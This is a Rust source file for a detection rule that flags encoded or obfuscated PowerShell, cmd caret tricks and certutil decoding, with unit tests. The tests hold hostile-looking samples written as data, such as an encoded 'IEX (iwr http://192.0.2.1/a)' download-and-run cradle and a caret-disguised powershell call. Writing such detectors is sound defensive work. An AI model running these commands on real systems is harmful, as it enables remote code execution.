//! SCRIPT-01: an encoded or disguised command.
//!
//! Sees: PowerShell with `-EncodedCommand` in any of its abbreviations, also inside other command lines and in the
//! HostApplication of PowerShell's own events; base64 literals that are decoded and run; disguised PowerShell text; `cmd`
//! lines full of carets or substring expansions; certutil as a decoder. What was encoded is decoded, layer by
//! layer, and becomes part of the finding.
//! Why: encoding hides commands from people and from simple rules.
//! Benign causes: management agents (SCCM, Intune, Ansible, Chef, Azure Arc) use `-EncodedCommand` every day: the key is the
//! hash of the decoded text with the parent, so that such pairs are common or can be allowed.
//! Sources: Microsoft about_PowerShell_exe; MITRE ATT&CK T1027.010; measured on the OTRF corpus: 14 of about a million events.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use ahash::RandomState;
use sha2::{Digest, Sha256};

use super::meta::{Key, Level, Meta, Threshold};
use super::script_blocks::{self, blocks};
use super::starts::{self, names, quote, urls};
use super::{Cx, Hit, KeyRows, Signal};
use crate::knowledge::programs::stem;
use crate::lake::frame::{NO_STR, Row, StrId};
use crate::rules::cmdline::cmd_obfuscation;
use crate::rules::content::{self, Class};
use crate::rules::encoded::{Layer, Wrapping, decode_layers};
use crate::rules::obfuscation::disguise;
use crate::schema::{process as t, script};

/// See the module.
pub struct Script01;

const QUALITY: f64 = 0.8;
const QUALITY_TELLING: f64 = 1.0;
const QUALITY_FLEET: f64 = 0.4;
const FLEET_SHARE: f64 = 0.05;
const FLEET_HOSTS: u32 = 20;
const SAME_S: f64 = 60.0;
const LONG_BLOCK: f64 = 16384.0;

static META: Meta = Meta {
    id: "SCRIPT-01",
    title: "Encoded command",
    sees: "PowerShell with -EncodedCommand (any abbreviation), base64 that a script decodes and runs, disguised \
           PowerShell text, cmd lines with carets or substring expansions, certutil -decode.",
    why: "Encoding hides a command from people and simple rules.",
    techniques: &["T1059.001", "T1027.010", "T1140", "T1059.003"],
    stage: "execution",
    family: "scripts",
    key: Key::Host,
    reads: script_blocks::WITH_STARTS,
    level: Level::Medium,
    decisive: false,
    thresholds: &[
        Threshold {
            name: "quality",
            value: QUALITY,
            unit: "quality",
            source: "[J] management agents encode as well",
        },
        Threshold {
            name: "fleet_quality",
            value: QUALITY_FLEET,
            unit: "quality of a decoded text that at least 5 % of 20 or more hosts run",
            source: "[J]",
        },
        Threshold {
            name: "telling_quality",
            value: QUALITY_TELLING,
            unit: "quality",
            source: "[J] the decoded text downloads, hides or tampers",
        },
        Threshold {
            name: "same_seconds",
            value: SAME_S,
            unit: "s",
            source: "[J] one command seen in several records: shell, PowerShell, engine events",
        },
        Threshold {
            name: "long_block_bytes",
            value: LONG_BLOCK,
            unit: "bytes",
            source: "[M] modules of vendors are longer; attackers' one-liners are not",
        },
    ],
    benign: &[
        "management agents (SCCM, Intune, Ansible, Chef, Azure Arc)",
        "installers that pack scripts",
        "certutil -decode of certificates",
    ],
};

impl Signal for Script01 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, _: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let mut scan = Scan::default();
        let starts = starts::starts(rows.table(&t::TABLE));
        // PowerShell's own starts first: a shell that passes the command on then adds nothing.
        let (own, others): (Vec<_>, Vec<_>) = starts
            .into_iter()
            .partition(|r| starts::is_one_of(*r, &["powershell", "powershell_ise", "pwsh"]));
        for row in own.into_iter().chain(others) {
            scan.start(row);
        }
        let script_rows = rows.table(&script::TABLE);
        for row in script_rows.iter().filter(|r| r.id(script::HOST_APP) != NO_STR) {
            scan.engine(row);
        }
        for block in blocks(script_rows) {
            scan.block(&block);
        }
        hits.append(&mut scan.hits);
    }

    /// The same decoded text on many hosts is the organisation's own inventory or management script.
    fn settle(&self, cx: &Cx<'_>, hits: &mut [Hit]) {
        let population = cx.facts.hosts_with(&t::TABLE);
        if population < FLEET_HOSTS {
            return;
        }
        let mut hosts: BTreeMap<String, BTreeSet<StrId>> = BTreeMap::new();
        for h in hits.iter() {
            hosts.entry(h.key.clone()).or_default().insert(h.host);
        }
        for h in hits.iter_mut().filter(|h| h.quality < QUALITY_TELLING) {
            let n = hosts.get(&h.key).map_or(0, BTreeSet::len) as f64;
            if n >= FLEET_SHARE * f64::from(population) {
                h.quality = h.quality.min(cx.number(&META, "fleet_quality"));
            }
        }
    }
}

#[derive(Default)]
struct Scan {
    hits: Vec<Hit>,
    /// What a command line says, once per distinct text and program.
    known: HashMap<(StrId, StrId), Option<Finding>, RandomState>,
    /// When each decoded text was last reported.
    reported: HashMap<String, Vec<i64>, RandomState>,
}

/// What is encoded in a text.
#[derive(Clone)]
struct Finding {
    /// For the key: a hash of what was hidden, or the kind of disguise.
    key: String,
    explain: String,
    quality: f64,
    techniques: Vec<&'static str>,
    decoded: String,
}

impl Scan {
    fn start(&mut self, row: Row<'_>) {
        let line = row.id(t::CMDLINE);
        let Some(text) = row.text(t::CMDLINE) else {
            return;
        };
        let key = (line, row.id(t::IMAGE_NAME));
        let known = self.known.entry(key).or_insert_with(|| of_command_line(text, row));
        let Some(found) = known.clone() else {
            return;
        };
        let parent = stem(row.str(t::PARENT_NAME));
        self.report(row, &found, &format!("{}:{parent}", found.key));
    }

    /// Events of the engine's life give the command line of its host where no process was logged.
    fn engine(&mut self, row: Row<'_>) {
        let line = row.id(script::HOST_APP);
        let key = (line, NO_STR);
        self.known.entry(key).or_insert_with(|| {
            let layers = decode_layers(row.str(script::HOST_APP), "powershell.exe");
            of_layers(&layers)
        });
        if let Some(found) = self.known.get(&key).cloned().flatten() {
            self.report(row, &found, &format!("{}:engine", found.key));
        }
    }

    fn block(&mut self, block: &script_blocks::Block<'_>) {
        let Some(found) = of_script(&block.text) else {
            return;
        };
        let before = self.hits.len();
        self.report(block.row, &found, &format!("{}:script", found.key));
        if let Some(hit) = self.hits.get_mut(before) {
            for part in block.rows.iter().skip(1) {
                hit.add_row(*part);
            }
        }
    }

    /// Adds a hit unless the same hidden text was reported around this time.
    fn report(&mut self, row: Row<'_>, found: &Finding, key: &str) {
        let times = self.reported.entry(found.key.clone()).or_default();
        let near = |t: &i64| t.abs_diff(row.ts()) <= (SAME_S * 1e6) as u64;
        if times.iter().rev().take(64).any(near) {
            return;
        }
        times.push(row.ts());
        let mut hit = Hit::at(&META, row, key, found.explain.clone())
            .quality(found.quality)
            .techniques(&found.techniques);
        hit.iocs = urls(&found.decoded);
        self.hits.push(hit);
    }
}

fn of_command_line(text: &str, row: Row<'_>) -> Option<Finding> {
    let (image, original) = names(row);
    let powershell = |n: &str| matches!(n, "powershell" | "pwsh" | "powershell_ise");
    let program = if powershell(&original) { &original } else { &image };
    if let Some(found) = of_layers(&decode_layers(text, program)) {
        return Some(found);
    }
    if (powershell(program) || text.to_ascii_lowercase().contains("powershell"))
        && let Some(found) = of_disguise(text, "T1059.001")
    {
        return Some(found);
    }
    let lower = text.to_ascii_lowercase();
    if (image == "cmd" || original == "cmd") && cmd_obfuscation(text).is_obfuscated() {
        return Some(Finding {
            key: "cmd".to_owned(),
            explain: format!(
                "a cmd line hides itself with carets or substring expansions: {}",
                quote(text)
            ),
            quality: QUALITY,
            techniques: vec!["T1059.003", "T1027.010"],
            decoded: text.replace('^', ""),
        });
    }
    let decodes = ["-decode", "/decode", "-decodehex", "/decodehex"]
        .iter()
        .any(|a| lower.split_whitespace().any(|w| w == *a));
    ((image == "certutil" || original == "certutil") && decodes).then(|| Finding {
        key: "certutil".to_owned(),
        explain: format!("certutil decoded a file: {}", quote(text)),
        quality: QUALITY,
        techniques: vec!["T1140"],
        decoded: String::new(),
    })
}

/// A script that decodes and runs, or that is disguised. Long scripts are modules, which decode pictures and
/// certificates: there a decoded literal must say something itself.
fn of_script(text: &str) -> Option<Finding> {
    let lower = text.to_ascii_lowercase();
    let decodes = lower.contains("frombase64string") || lower.contains("h4si");
    if decodes {
        let executes = content::classes(text).contains(Class::Execute);
        let long = text.len() > LONG_BLOCK as usize;
        if let Some(found) =
            of_layers(&decode_layers(text, "")).filter(|f| !long && executes || f.quality >= QUALITY_TELLING)
        {
            return Some(found);
        }
        if executes && !long {
            return Some(Finding {
                key: format!("base64:{}", digest(text)),
                explain: format!("a script decodes base64 and runs text: {}", quote(text)),
                quality: QUALITY,
                techniques: vec!["T1059.001", "T1027.010", "T1140"],
                decoded: text.to_owned(),
            });
        }
    }
    if lower.contains("-encodedcommand") || lower.contains("powershell") {
        let layers = decode_layers(text, "");
        let commands: Vec<Layer> = layers
            .into_iter()
            .filter(|l| l.wrapping == Wrapping::EncodedCommand)
            .collect();
        if let Some(found) = of_layers(&commands) {
            return Some(found);
        }
    }
    if text.len() > LONG_BLOCK as usize {
        None
    } else {
        of_disguise(text, "T1059.001")
    }
}

fn of_disguise(text: &str, technique: &'static str) -> Option<Finding> {
    let how = disguise(text)?;
    Some(Finding {
        key: format!("disguise:{}", digest(text)),
        explain: format!("PowerShell text is disguised ({how}): {}", quote(text)),
        quality: QUALITY,
        techniques: vec![technique, "T1027.010"],
        decoded: text.to_owned(),
    })
}

fn of_layers(layers: &[Layer]) -> Option<Finding> {
    let first = layers.first()?;
    let innermost = layers.last()?;
    let classes = layers
        .iter()
        .map(|l| content::classes(&l.text).count())
        .max()
        .unwrap_or(0);
    let how = match first.wrapping {
        Wrapping::EncodedCommand => "an encoded command",
        Wrapping::Base64Literal => "base64",
    };
    let mut explain = format!("{how} says: {}", quote(&first.text));
    if innermost.depth > first.depth {
        explain.push_str(&format!("; inside it: {}", quote(&innermost.text)));
    }
    let mut techniques = vec!["T1059.001", "T1027.010"];
    if layers.iter().any(|l| l.wrapping == Wrapping::Base64Literal) {
        techniques.push("T1140");
    }
    Some(Finding {
        key: format!("decoded:{}", digest(&first.text)),
        explain,
        quality: if classes >= 2 { QUALITY_TELLING } else { QUALITY },
        techniques,
        decoded: layers.iter().map(|l| l.text.as_str()).collect::<Vec<_>>().join("\n"),
    })
}

/// The first 16 digits of the SHA-256 of a text.
fn digest(text: &str) -> String {
    let hash = Sha256::digest(text.as_bytes());
    crate::lake::frame::hex(hash.get(..8).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::{hits_of, start};
    use crate::signals::testing::Sample;
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;

    fn encoded(text: &str) -> String {
        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    fn script_hits(texts: &[(&str, i64)]) -> Vec<Hit> {
        let mut sample = Sample::default();
        for (text, part) in texts {
            sample.row(&script::TABLE, "ws01", "2026-03-02T09:00:00Z", |b| {
                b.text(script::TEXT, text);
                b.text(script::BLOCK_ID, "b1");
                b.int(script::PART, *part);
            });
        }
        sample.hits(&Script01)
    }

    #[test]
    fn what_was_encoded_is_in_the_explanation_and_its_urls_are_indicators() {
        let line = format!("powershell -NoP -enc {}", encoded("IEX (iwr http://192.0.2.1/a)"));
        let found = hits_of(&Script01, "powershell.exe", "cmd.exe", &line);
        assert_eq!(found.len(), 1);
        assert!(found[0].explain.contains("IEX (iwr http://192.0.2.1/a)"));
        assert_eq!(found[0].quality, 1.0);
        assert_eq!(
            found[0].iocs,
            [crate::signals::Ioc::Url("http://192.0.2.1/a".to_owned())]
        );
        let plain = format!("pwsh -e {}", encoded("$a=1;$a+1"));
        assert_eq!(hits_of(&Script01, "pwsh.exe", "cmd.exe", &plain)[0].quality, QUALITY);
    }

    #[test]
    fn a_command_that_a_shell_passes_on_is_one_hit() {
        let line = format!("powershell -enc {}", encoded("whoami /all"));
        let mut sample = Sample::default();
        start(
            &mut sample,
            "2026-03-02T09:00:00Z",
            "cmd.exe",
            "explorer.exe",
            &format!("cmd /c {line}"),
        );
        start(&mut sample, "2026-03-02T09:00:01Z", "powershell.exe", "cmd.exe", &line);
        sample.row(&script::TABLE, "ws01", "2026-03-02T09:00:02Z", |b| {
            b.text(script::HOST_APP, &line)
        });
        let found = sample.hits(&Script01);
        assert_eq!(found.len(), 1);
        assert!(found[0].key.ends_with(":cmd"), "{}", found[0].key);
    }

    #[test]
    fn policies_encodings_and_files_are_no_encoded_commands() {
        for line in [
            "powershell -ExecutionPolicy Bypass -File a.ps1",
            "powershell -ep bypass -f longscriptnamewithoutencoding.ps1",
            "powershell -Command \"Out-File x -Encoding utf8\"",
            "powershell -e",
        ] {
            assert!(
                hits_of(&Script01, "powershell.exe", "cmd.exe", line).is_empty(),
                "{line}"
            );
        }
        assert!(hits_of(&Script01, "certutil.exe", "cmd.exe", "certutil -store My").is_empty());
    }

    #[test]
    fn carets_and_decoders_are_seen() {
        let line = "cmd /c p^o^w^e^r^s^h^e^l^l -c whoami";
        assert_eq!(
            hits_of(&Script01, "cmd.exe", "x.exe", line)[0].techniques,
            ["T1059.003", "T1027.010"]
        );
        assert_eq!(
            hits_of(&Script01, "certutil.exe", "cmd.exe", "certutil -decode a.b64 a.exe")[0].techniques,
            ["T1140"]
        );
    }

    #[test]
    fn parts_of_a_block_are_joined_in_order() {
        let literal = STANDARD.encode("Write-Host 'hello from inside'");
        let (head, tail) = literal.split_at(20);
        let found = script_hits(&[
            (&format!("{tail}')))"), 2),
            (
                &format!("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{head}"),
                1,
            ),
        ]);
        assert_eq!(found.len(), 1);
        assert!(found[0].explain.contains("hello from inside"));
        assert_eq!(found[0].rows.len(), 2);
        assert!(script_hits(&[("$b = [Convert]::FromBase64String($picture)", 1)]).is_empty());
    }
}
